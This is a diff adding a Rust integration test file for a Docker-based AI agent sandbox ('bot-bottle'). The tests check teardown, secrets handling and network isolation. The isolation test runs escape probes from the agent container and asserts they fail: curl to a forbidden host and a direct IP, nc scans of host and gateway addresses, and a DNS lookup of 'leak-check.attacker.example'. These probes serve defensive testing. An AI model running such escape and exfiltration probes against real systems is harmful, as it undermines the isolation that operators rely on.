@@ -1,0 +1,402 @@
+//! Launching real bottles on the real engine: the pipeline by hand, `start --headless`,
+//! teardown after a signal at every stage boundary and after a failed stage, secrets, and the
+//! agent's isolation. Every test removes what it made, also when it fails (DockerCleanup).
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::time::Duration;
+
+use bb_testkit::{DockerCleanup, Fixture, bin_path, require_images, simple_bottle, unique_name};
+use serde_json::Value;
+
+/// A bottle named after the test, with an upstream route and a repo behind the gate.
+struct Bottle {
+    f: Fixture,
+    name: String,
+    env: Vec<(String, String)>,
+    cleanup: DockerCleanup,
+}
+
+const BOTTLE: &str = r#"env:
+  GREETING: hello from the bottle
+git-gate:
+  user: {name: Test Bot, email: bot@example.org}
+  repos:
+    shop:
+      url: git@git.example.org:team/shop.git
+      key: {provider: static, path: ~/.ssh/deploy}
+      host_key: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITestKey
+egress:
+  routes:
+    - host: allowed.test
+      private: true
+"#;
+
+impl Bottle {
+    fn new(prefix: &str, front: &str) -> Bottle {
+        require_images();
+        let f = Fixture::new();
+        let name = unique_name(prefix);
+        let cleanup = DockerCleanup::new(&name);
+        f.write("user/.ssh/deploy", "not a key\n");
+        let env = simple_bottle(&f, &name, front);
+        Bottle {
+            f,
+            name,
+            env,
+            cleanup,
+        }
+    }
+
+    fn start(&self, prompt: &str, extra_env: &[(&str, &str)]) -> Output {
+        self.f
+            .cmd("bot-bottle")
+            .args([
+                "start",
+                &self.name,
+                "--headless",
+                "--prompt",
+                prompt,
+                "--runtime",
+                "runc",
+            ])
+            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
+            .envs(extra_env.iter().copied())
+            .timeout(Duration::from_secs(240))
+            .output()
+            .unwrap()
+    }
+
+    fn assert_nothing_left(&self) {
+        assert!(
+            self.cleanup.containers().is_empty(),
+            "containers left: {:?}",
+            self.cleanup.containers()
+        );
+        assert!(
+            self.cleanup.networks().is_empty(),
+            "networks left: {:?}",
+            self.cleanup.networks()
+        );
+    }
+
+    fn state_dirs(&self) -> Vec<PathBuf> {
+        std::fs::read_dir(self.f.home().join("state"))
+            .map(|d| d.flatten().map(|e| e.path()).collect())
+            .unwrap_or_default()
+    }
+
+    /// `bb-plan | bb-net | bb-ca | bb-compose up | bb-provision` in a shell, as a user types it.
+    fn pipeline(&self, extra_env: &[(&str, &str)]) -> Value {
+        let bins = bin_path("bb-plan").parent().unwrap().to_path_buf();
+        let path = format!("{}:{}", bins.display(), std::env::var("PATH").unwrap());
+        let line = format!(
+            "bb-plan {} --runtime runc | bb-net | bb-ca | bb-compose up | bb-provision",
+            self.name
+        );
+        let out = self
+            .f
+            .shell(&line)
+            .env("PATH", path)
+            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
+            .envs(extra_env.iter().copied())
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "pipeline failed: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        serde_json::from_slice(&out.stdout).unwrap()
+    }
+
+    fn stage(&self, plan: &Value, args: &[&str]) -> Output {
+        self.f
+            .cmd(args[0])
+            .args(&args[1..])
+            .write_stdin(plan.to_string())
+            .output()
+            .unwrap()
+    }
+}
+
+fn text(out: &Output) -> (String, String) {
+    (
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+fn exec(container: &str, user: &str, script: &str) -> Output {
+    Command::new("docker")
+        .args(["exec", "-u", user, container, "sh", "-c", script])
+        .output()
+        .unwrap()
+}
+
+fn docker(args: &[&str]) -> String {
+    let out = Command::new("docker").args(args).output().unwrap();
+    assert!(
+        out.status.success(),
+        "docker {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+#[test]
+fn start_headless_runs_the_agent_and_tears_everything_down() {
+    let b = Bottle::new("hl", BOTTLE);
+    let out = b.start(
+        "run: echo \"greeting=$GREETING\"; stat -c 'prompt %a %U' ~/.bot-bottle-prompt.txt; cat ~/.bot-bottle-prompt.txt; git config --get-regexp '^url' ; exit 7",
+        &[],
+    );
+    let (stdout, stderr) = text(&out);
+    assert_eq!(out.status.code(), Some(7), "the agent's status: {stderr}");
+    assert!(
+        stdout.contains("greeting=hello from the bottle"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("prompt 600 node"), "{stdout}");
+    assert!(stdout.contains("You are a test agent."), "{stdout}");
+    assert!(
+        stdout.contains("url.git://git-gate/shop.git.insteadof git@git.example.org:team/shop.git"),
+        "{stdout}"
+    );
+    assert!(stderr.contains("CA SHA-256"), "{stderr}");
+    b.assert_nothing_left();
+    let kept = b.state_dirs();
+    assert_eq!(kept.len(), 1, "a non-zero exit keeps the state");
+    assert!(
+        kept[0].join("compose.log").is_file(),
+        "logs dumped at teardown"
+    );
+
+    let out = b.start("run: true", &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out).1);
+    b.assert_nothing_left();
+    assert_eq!(b.state_dirs().len(), 1, "a clean exit removes its state");
+}
+
+#[test]
+fn a_signal_at_every_stage_boundary_tears_down() {
+    let b = Bottle::new("sig", BOTTLE);
+    for stage in ["net", "ca", "compose", "provision"] {
+        let out = b.start("run: true", &[("BB_DEBUG_SIGNAL_AFTER", stage)]);
+        let (_, stderr) = text(&out);
+        assert_eq!(out.status.code(), Some(130), "{stage}: {stderr}");
+        assert!(
+            stderr.contains("interrupted by signal 2; torn down"),
+            "{stage}: {stderr}"
+        );
+        assert!(!stderr.contains("teardown failed"), "{stage}: {stderr}");
+        b.assert_nothing_left();
+    }
+    assert_eq!(
+        b.state_dirs().len(),
+        4,
+        "interrupted launches keep their state"
+    );
+}
+
+#[test]
+fn a_failed_stage_tears_down_what_was_made() {
+    let b = Bottle::new("fail", BOTTLE);
+    // The base image has no `node` user, so provisioning fails after compose is up.
+    let out = b.start(
+        "run: true",
+        &[("BOT_BOTTLE_IMAGE", "bot-bottle-base:local")],
+    );
+    let (_, stderr) = text(&out);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("bot-bottle: error:"), "{stderr}");
+    b.assert_nothing_left();
+}
+
+#[test]
+fn pipeline_by_hand_isolates_the_agent() {
+    let b = Bottle::new("pipe", BOTTLE);
+    let plan = b.pipeline(&[]);
+    let agent = plan["compose"]["agent_container"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let net = plan["network"].clone();
+    let slug = &b.name;
+
+    // The CA is in the system store: curl trusts a server whose certificate the bottle CA signed.
+    let ca_dir = Path::new(plan["ca"]["cert"].as_str().unwrap())
+        .parent()
+        .unwrap()
+        .display()
+        .to_string();
+    docker(&[
+        "run",
+        "-d",
+        "--name",
+        &format!("bot-bottle-{slug}-tls"),
+        "--network",
+        net["internal"].as_str().unwrap(),
+        "--network-alias",
+        "tls-check",
+        "-v",
+        &format!("{ca_dir}:/ca:ro"),
+        "bot-bottle-base:local",
+        "sh",
+        "-c",
+        "openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /tmp/k -subj /CN=tls-check \
+         -addext subjectAltName=DNS:tls-check -out /tmp/csr 2>/dev/null && openssl x509 -req -in /tmp/csr -CA /ca/ca.pem \
+         -CAkey /ca/ca-key.pem -CAcreateserial -CAserial /tmp/serial -days 1 -copy_extensions copy -out /tmp/c 2>/dev/null \
+         && exec openssl s_server -quiet -accept 8443 -cert /tmp/c -key /tmp/k -www",
+    ]);
+    let trusted = exec(
+        &agent,
+        "node",
+        "for i in $(seq 50); do curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' https://tls-check:8443/ && exit 0; sleep 0.2; done; exit 1",
+    );
+    assert_eq!(
+        text(&trusted).0,
+        "200",
+        "curl trusts the bottle CA: {}",
+        text(&trusted).1
+    );
+
+    // Prompt file and git config.
+    let stat = exec(
+        &agent,
+        "node",
+        "stat -c '%a %U' /home/node/.bot-bottle-prompt.txt",
+    );
+    assert_eq!(text(&stat).0.trim(), "600 node");
+    let git = exec(&agent, "node", "git config --get-regexp '^url'");
+    assert!(
+        text(&git)
+            .0
+            .contains("url.git://git-gate/shop.git.insteadof"),
+        "{}",
+        text(&git).0
+    );
+
+    // An upstream on the egress network, reachable only through the proxy.
+    docker(&[
+        "run",
+        "-d",
+        "--name",
+        &format!("bot-bottle-{slug}-upstream"),
+        "--network",
+        net["egress"].as_str().unwrap(),
+        "--network-alias",
+        "allowed.test",
+        "--network-alias",
+        "forbidden.test",
+        "bot-bottle-base:local",
+        "sh",
+        "-c",
+        "while true; do printf 'HTTP/1.1 200 OK\\r\\nContent-Length: 8\\r\\nConnection: close\\r\\n\\r\\nupstream' | nc -N -l 8080 >/dev/null; done",
+    ]);
+    let allowed = exec(
+        &agent,
+        "node",
+        "for i in $(seq 30); do curl -sS -m 5 http://allowed.test:8080/ && exit 0; sleep 0.2; done; exit 1",
+    );
+    assert_eq!(
+        text(&allowed).0,
+        "upstream",
+        "allowed through the proxy: {}",
+        text(&allowed).1
+    );
+    let refused = exec(
+        &agent,
+        "node",
+        "curl -sS -m 5 -w ' %{http_code}' http://forbidden.test:8080/",
+    );
+    let (body, _) = text(&refused);
+    assert!(
+        body.starts_with("blocked:") && body.ends_with(" 403"),
+        "{body}"
+    );
+    let upstream_ip = docker(&[
+        "inspect",
+        "-f",
+        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+        &format!("bot-bottle-{slug}-upstream"),
+    ]);
+    let direct = exec(
+        &agent,
+        "node",
+        &format!("curl -sS --noproxy '*' -m 3 http://{upstream_ip}:8080/"),
+    );
+    assert!(
+        !direct.status.success(),
+        "no direct route to the egress network"
+    );
+
+    // A host listener on 0.0.0.0 is unreachable through every address the agent can name.
+    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut targets = vec![
+        net["internal_subnet"]
+            .as_str()
+            .unwrap()
+            .replace(".0/24", ".1"),
+        docker(&[
+            "network",
+            "inspect",
+            "-f",
+            "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
+            net["egress"].as_str().unwrap(),
+        ]),
+        docker(&[
+            "network",
+            "inspect",
+            "-f",
+            "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
+            "bridge",
+        ]),
+    ];
+    let host_ips = Command::new("hostname").arg("-I").output().unwrap();
+    targets.extend(
+        String::from_utf8_lossy(&host_ips.stdout)
+            .split_whitespace()
+            .filter(|a| !a.contains(':'))
+            .map(str::to_string),
+    );
+    for target in &targets {
+        let probe = exec(&agent, "node", &format!("nc -z -w 2 {target} {port}"));
+        assert!(
+            !probe.status.success(),
+            "the host listener answered on {target}"
+        );
+    }
+    let mut accepted = 0;
+    while let Ok((mut stream, _)) = listener.accept() {
+        let mut buf = [0u8; 1];
+        let _ = stream.read(&mut buf);
+        accepted += 1;
+    }
+    assert_eq!(accepted, 0, "the host listener saw a connection");
+
+    // DNS for outside names ends at the sidecar's sink, which refuses it.
+    let dig = exec(
+        &agent,
+        "node",
+        "dig +time=2 +tries=1 leak-check.attacker.example",
+    );
+    assert!(text(&dig).0.contains("status: REFUSED"), "{}", text(&dig).0);
+
+    // The inverse stages remove everything.
+    docker(&[
+        "rm",
+        "-f",
+        &format!("bot-bottle-{slug}-tls"),
+        &format!("bot-bottle-{slug}-upstream"),
+    ]);
+    let down = b.stage(&plan, &["bb-compose", "down"]);
+    assert!(down.status.success(), "{}", text(&down).1);
+    let rm = b.stage(&plan, &["bb-net", "rm"]);
+    assert!(rm.status.success(), "{}", text(&rm).1);
+    b.assert_nothing_left();
+}
